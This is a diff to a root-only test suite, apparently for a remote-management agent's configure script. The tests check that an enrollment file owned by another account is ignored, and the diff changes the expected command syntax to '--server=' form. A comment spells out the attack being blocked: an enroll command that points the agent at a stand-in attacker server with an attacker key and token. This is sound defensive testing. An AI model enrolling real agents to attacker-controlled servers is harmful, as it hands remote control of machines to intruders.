@@ -42,7 +42,7 @@ describe.runIf(isRoot)('enroll.env owned by another account (configure runs as r
       env: { PATH: process.env.PATH, RMAGENT_BIN: path.join(dir, 'rmagent'), RMAGENT_ENROLL_FILE: file, RMAGENT_ALLOW_CHANGES_FILE: allow, STAND_IN_LOG: log },
     });
     const calls = existsSync(log) ? readFileSync(log, 'utf8') : '';
-    // Without a defence: "enroll --server wss://attacker.example/agent --server-key ATTACKERKEY | token=attacker-token-1"
+    // Without a defence: "enroll --server=wss://attacker.example/agent --server-key=ATTACKERKEY | token=attacker-token-1"
     // and the allow-changes opt-in created in root's state folder.
     expect(calls, `configure exit ${r.status}: ${r.stderr}`).not.toContain('attacker');
     expect(existsSync(allow)).toBe(false);
@@ -74,7 +74,7 @@ describe.runIf(isRoot)('enroll.env owned by another account (configure runs as r
     // root's own 0600 file in root's folder is read (and deleted once enrolled).
     const ok = configure(file);
     expect(ok.status, ok.stderr).toBe(0);
-    expect(readFileSync(path.join(dir, 'calls.log'), 'utf8')).toContain('enroll --server wss://rm.example.com/agent | token=admin-token-123456');
+    expect(readFileSync(path.join(dir, 'calls.log'), 'utf8')).toContain('enroll --server=wss://rm.example.com/agent | token=admin-token-123456');
     expect(existsSync(file)).toBe(false);
   });
 
